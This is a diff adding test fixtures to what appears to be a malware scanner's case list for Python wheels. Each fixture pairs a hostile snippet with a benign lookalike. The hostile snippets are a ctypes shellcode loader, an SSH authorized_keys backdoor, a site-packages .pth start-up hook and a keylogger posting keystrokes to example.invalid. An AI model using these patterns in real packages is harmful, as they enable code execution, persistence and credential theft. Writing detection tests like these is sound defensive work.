@@ -240,6 +240,47 @@ CASES: list[tuple[str, str | bytes, str | bytes, str, str]] = [
         "wheel",
     ),
     (
+        "binary-dropper.shellcode",
+        "import ctypes, base64\nbuf = base64.b64decode('kJCQkA==')\nk = ctypes.windll.kernel32\n"
+        "p = k.VirtualAlloc(0, len(buf), 0x3000, 0x40)\nctypes.memmove(p, buf, len(buf))\n"
+        "k.CreateThread(0, 0, p, 0, 0, 0)\n",
+        # A callback type alone is everyday ctypes.
+        "import ctypes\nCALLBACK = ctypes.CFUNCTYPE(None, ctypes.c_int)\n"
+        "def register(lib, fn):\n    lib.set_cb(CALLBACK(fn))\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "persistence.access",
+        "import os\np = os.path.expanduser('~/.ssh/authorized_keys')\nwith open(p, 'a') as fh:\n"
+        "    fh.write('ssh-ed25519 AAAAdefanged x@example.invalid')\n",
+        "import os\ndef keys():\n"
+        "    return open(os.path.expanduser('~/.ssh/authorized_keys')).read()\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "startup-hook.writes-startup",
+        "import os, site\n"
+        "open(os.path.join(site.getsitepackages()[0], 'zz.pth'), 'w').write('import sys')\n",
+        # A PyTorch checkpoint is a .pth too; only site-packages makes it a start-up file.
+        "import os\ndef save(cache, data):\n"
+        "    open(os.path.join(cache, 'resnet18.pth'), 'wb').write(data)\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "exfiltration.surveillance",
+        "import requests\nfrom pynput import keyboard\nkeys = []\n"
+        "def on_press(k):\n    keys.append(str(k))\n"
+        "def flush():\n    requests.post('https://example.invalid/k', data=''.join(keys))\n"
+        "keyboard.Listener(on_press=on_press).start()\n",
+        "from pynput import keyboard\ndef hotkeys(cb):\n"
+        "    return keyboard.Listener(on_press=cb)\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
         "persistence.shell-rc",
         "import os\ndef f():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
         "        fh.write('alias ll=ls\\n')\n",
